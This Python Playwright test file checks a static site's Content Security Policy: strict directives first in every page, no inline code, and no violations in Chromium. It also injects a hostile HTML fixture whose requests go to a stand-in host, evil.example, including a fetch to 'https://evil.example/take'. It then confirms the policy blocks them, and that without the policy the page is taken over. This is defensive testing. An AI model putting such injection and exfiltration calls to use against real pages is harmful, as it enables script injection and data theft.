"""Content security: a strict policy first in every page, kept by every page, and safe from injection."""

from __future__ import annotations

import re
from base64 import b64encode
from hashlib import sha256
from pathlib import Path

from playwright.sync_api import Browser, ConsoleMessage, Page, Request, Response, Route

from conftest import pages

from .walk import Places, opened

FIXTURE = Path(__file__).parent / "fixtures/injected.html"
# What a directive may allow. A search in the browser needs its index and WebAssembly from this site.
ALLOWED = {
    "default-src": {"'none'"},
    "script-src": {"'self'", "'wasm-unsafe-eval'"},
    "img-src": {"'self'", "data:"},
    "connect-src": {"'self'"},
    "worker-src": {"'self'"},
    "base-uri": {"'none'"},
    "form-action": {"'none'", "'self'"},
}
NEEDED = {"default-src", "script-src", "style-src", "base-uri", "form-action"}
WATCH = """
globalThis.refused = [];
const note = (e) => refused.push(`${e.effectiveDirective} ${e.blockedURI}`);
document.addEventListener("securitypolicyviolation", note);
globalThis.shift = 0;
new PerformanceObserver((list) => list.getEntries().forEach((entry) => (shift += entry.value)))
  .observe({ type: "layout-shift", buffered: true });
"""


def test_the_policy_comes_first_and_nothing_is_inline(site: Path) -> None:
    count = 0
    for address, tree in pages(site):
        count += 1
        first, second = tree.xpath("/html/head/*")[:2]
        assert first.get("charset") == "utf-8", address
        assert second.get("http-equiv") == "Content-Security-Policy", address
        policy = {name: set(values) for name, *values in map(str.split, second.get("content").split(";"))}
        assert policy.keys() >= NEEDED, address
        # The style stands in the page and is named by its hash; the policy refuses any other.
        styles = [b64encode(sha256(s.text.encode()).digest()).decode() for s in tree.xpath("//style")]
        assert policy.pop("style-src") == {f"'sha256-{style}'" for style in styles}, address
        assert len(styles) == 1, address
        for name, values in policy.items():
            assert values <= ALLOWED.get(name, set()), (address, name, values)
        assert tree.xpath("//meta[@name='referrer']/@content") == ["no-referrer"], address
        scripts = tree.xpath("//script[not(@src) and not(@type='application/ld+json')]")
        handlers = [name for name in tree.xpath("//@*") if re.match("on", name.attrname or "", re.I)]
        assert not (scripts + handlers + tree.xpath("//@style | //base")), address
        assert not tree.xpath("//@href[starts-with(., 'javascript:')]"), address
    print(f"\npolicy: {count} HTML pages")


def test_no_page_is_refused_anything_says_anything_or_moves(
    browser: Browser, server: str, places: Places
) -> None:
    said: list[str] = []

    def note_console(message: ConsoleMessage) -> None:
        said.append(f"{message.page.url if message.page else ''} console: {message.text}")

    def note_failure(request: Request) -> None:
        said.append(f"{request.url} failed: {request.failure}")

    def note_response(response: Response) -> None:
        if response.status >= 400 or not response.url.startswith(server):
            said.append(f"{response.url}: {response.status}")

    with opened(browser) as page:
        page.add_init_script(WATCH)
        page.on("console", note_console)
        page.on("requestfailed", note_failure)
        page.on("response", note_response)
        page.on("pageerror", lambda error: said.append(f"{page.url} error: {error}"))
        for place in (*places.built, *(f"{place}#p3" for place in places.every if "circular" in place)):
            if "#" in place:
                page.goto("about:blank")
            page.goto(server + place)
            # A shift counts until the page has come to rest; after that the test itself moves things.
            page.evaluate("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
            if shift := page.evaluate("shift"):
                said.append(f"/{place} layout shift {shift:.4f}")
            page.evaluate("audit.open()")
            said += [f"/{place} refused: {what}" for what in page.evaluate("refused")]
    print(
        f"\npolicy in Chromium: {len(places.built)} pages, "
        f"{len(said)} violations, messages, failures or shifts"
    )
    assert not said, "\n".join(said[:40])


def injected(page: Page, server: str, asked: list[str]) -> None:
    """Open the Arabic circular with the fixture in its text, on a network where evil.example answers."""

    def add(route: Route) -> None:
        body = route.fetch().text()
        assert '<main id="text">' in body
        route.fulfill(
            body=body.replace('<main id="text">', f'<main id="text">{FIXTURE.read_text("utf-8")}'),
            content_type="text/html; charset=utf-8",
        )

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="globalThis.taken = ['from evil.example']", content_type="text/javascript")

    page.route("https://evil.example/**", answer)
    page.route(f"{server}ar/circular/", add)
    page.goto(f"{server}ar/circular/")


def test_what_is_injected_does_nothing(browser: Browser, server: str) -> None:
    asked: list[str] = []
    with opened(browser) as page:
        page.add_init_script(WATCH)
        injected(page, server, asked)
        assert page.evaluate("document.querySelectorAll('main script').length") == 3
        assert page.evaluate("getComputedStyle(document.querySelector('h1')).display") == "block"
        assert page.evaluate("getComputedStyle(document.querySelector('#styled')).position") == "static"
        assert page.evaluate("document.baseURI") == f"{server}ar/circular/"
        page.evaluate("document.querySelector('#run').click()")
        page.evaluate("document.querySelector('#send').click()")
        assert (
            page.evaluate("fetch('https://evil.example/take').then(() => 'sent', () => 'refused')")
            == "refused"
        )
        assert page.evaluate("globalThis.taken") is None
        assert page.url == f"{server}ar/circular/"
        refused = page.evaluate("refused")
    print(f"\ninjection: {len(refused)} attempts refused, {len(asked)} requests to the other host")
    assert asked == []
    kinds = {what.split()[0] for what in refused}
    assert kinds >= {
        *("base-uri", "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src"),
        *("frame-src", "object-src", "media-src", "form-action", "connect-src"),
    }


def test_without_the_policy_the_same_page_is_taken(browser: Browser, server: str) -> None:
    """The fixture is dangerous indeed: with the policy switched off it takes the page."""
    asked: list[str] = []
    with opened(browser, bypass_csp=True) as page:
        injected(page, server, asked)
        page.wait_for_function("() => globalThis.taken")
        assert page.evaluate("getComputedStyle(document.querySelector('h1')).display") == "none"
    assert asked
